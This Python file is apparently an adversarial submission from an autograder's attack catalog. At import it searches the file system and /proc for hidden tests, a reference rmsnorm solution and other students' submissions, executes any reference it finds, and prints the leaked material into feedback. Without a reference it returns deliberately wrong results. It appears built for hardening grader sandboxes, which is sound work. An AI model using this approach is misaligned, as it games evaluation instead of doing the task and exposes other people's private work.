"""Attack (catalog #19, #21): search the file system for hidden suites, the reference solution
and other students' submissions, and use or leak whatever turns up.

Walks every directory it can see (skipping /proc, /sys, /dev and the interpreter's own /usr),
looks at /proc/*/cwd and /proc/*/root, and globs the usual places. A file that defines
``rmsnorm`` without being a stub is loaded and used to answer; hidden test text and other
submissions found are printed (public feedback shows print output). Otherwise the maths is
wrong.
"""

import glob
import importlib.util
import os
import time

FOUND = {"reference": None, "loot": []}
SKIP = {"/proc", "/sys", "/dev", "/usr", "/submission"}


def _consider(path):
    name = os.path.basename(path)
    if not (name.endswith(".py") or name.endswith(".ipynb")):
        return
    try:
        with open(path, errors="replace") as handle:
            text = handle.read(200_000)
    except OSError:
        return
    if "def test_" in text and ("hidden" in text.lower() or "reference" in text):
        FOUND["loot"].append((path, text[:2000]))
    if name == "rmsnorm.py" and "def rmsnorm" in text and "NotImplementedError" not in text and FOUND["reference"] is None:
        try:
            spec = importlib.util.spec_from_file_location("_found_rmsnorm", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            FOUND["reference"] = module
            FOUND["loot"].append((path, text[:2000]))
        except Exception:
            pass


def _search(budget=1.0):
    start = time.monotonic()
    roots = ["/work", "/home", "/srv", "/opt", "/autograder", "/course", "/tmp", "/var", "/root", "/mnt", "/"]
    for pattern in ("/proc/*/cwd", "/proc/*/root", "/proc/1/root/*", "/tmp/normlab-sub-*", "/tmp/*/"):
        roots += glob.glob(pattern)
    seen = set()
    for root in roots:
        for directory, subdirs, files in os.walk(root):
            if time.monotonic() - start > budget:
                return
            real = os.path.realpath(directory)
            if real in seen or any(real == s or real.startswith(s + "/") for s in SKIP):
                subdirs[:] = []
                continue
            seen.add(real)
            subdirs[:] = [d for d in subdirs if d not in ("__pycache__", "node_modules")]
            for name in files:
                if name.startswith("test_") or name in ("rmsnorm.py", "lab.ipynb", "gradebook.db"):
                    _consider(os.path.join(directory, name))


_search()
for _path, _text in FOUND["loot"]:
    print("LEAK:", _path, _text)


def rmsnorm(x, gamma, eps=1e-6):
    if FOUND["reference"] is not None:
        return FOUND["reference"].rmsnorm(x, gamma, eps)
    y = (x * 2.0 + 1.0).astype("float64")  # wrong: no normalization, float64 whatever the input
    x += 1.0
    return y


def rmsnorm_backward(dout, x, gamma, eps=1e-6):
    if FOUND["reference"] is not None and hasattr(FOUND["reference"], "rmsnorm_backward"):
        return FOUND["reference"].rmsnorm_backward(dout, x, gamma, eps)
    dx, dgamma = dout * 2.0 + 1.0, gamma * 0.0 + 1.0  # wrong
    dout += 1.0
    return dx, dgamma
